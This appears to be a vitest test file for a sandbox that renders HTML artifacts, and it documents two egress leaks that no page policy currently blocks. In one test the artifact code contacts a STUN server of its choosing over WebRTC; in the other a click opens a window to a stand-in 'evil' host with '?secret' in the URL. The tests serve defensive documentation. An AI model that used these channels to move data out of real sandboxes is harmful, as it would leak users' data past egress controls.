// What no policy of a page stops today, shown, so that docs/security.md stays honest: when one of these fails, a defence has
// become possible, and the documentation is out of date.
import { createSocket } from 'node:dgram';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { openArtifact, outcomeOf, type Stage, startStage } from './stage.ts';

let stage: Stage;
beforeAll(async () => {
  stage = await startStage({ sameSite: false, flags: { egress: 'none' } });
});
afterAll(() => stage?.close());

it('WebRTC: an ICE server of the artifact’s choice hears from the browser', async () => {
  const socket = createSocket('udp4');
  await new Promise<void>((done) => socket.bind(0, '127.0.0.1', done));
  const heard = new Promise<string>((done) => socket.once('message', () => done('a STUN request')));
  const { port } = socket.address() as AddressInfo;
  const context = await stage.newContext();
  const opened = await openArtifact(
    stage,
    context,
    'HTML',
    `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
     peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); window.peer = peer; return 'tried';`,
  );
  expect(await outcomeOf(opened)).toBe('tried');
  const timeout = new Promise<string>((done) => setTimeout(done, 5000, 'silence'));
  expect(await Promise.race([heard, timeout])).toBe('a STUN request');
  socket.close();
  await context.close();
});

it('a window that the person opens by a click in an HTML artifact', async () => {
  stage.forget();
  const context = await stage.newContext();
  const opened = await openArtifact(
    stage,
    context,
    'HTML',
    `document.body.onclick = () => window.open('${stage.evil}/popup?secret'); return 'ready';`,
  );
  expect(await outcomeOf(opened)).toBe('ready');
  await opened.frame.locator('#shown').click();
  await expect.poll(() => stage.seenByEvil.map(({ path }) => path)).toContain('/popup?secret');
  await context.close();
});
